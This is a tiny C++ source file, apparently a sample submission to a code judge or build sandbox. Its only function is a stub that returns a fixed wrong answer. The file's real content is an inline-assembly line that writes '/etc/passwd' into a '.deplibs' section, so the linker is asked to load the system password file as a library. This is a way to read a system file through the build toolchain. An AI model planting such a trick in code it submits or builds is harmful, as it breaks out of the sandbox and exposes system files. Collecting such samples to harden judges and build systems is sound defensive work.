// Asks the linker for a library by a path of its own.
#include <stdio.h>
#include <vector>
#include <string>
using namespace std;
asm(".section .note.GNU-stack\n.section .deplibs,\"MS\",@progbits,1\n.asciz \"/etc/passwd\"\n.text");
vector<string> pick_words(string text, vector<int> positions) {
  return {"wrong"};
}
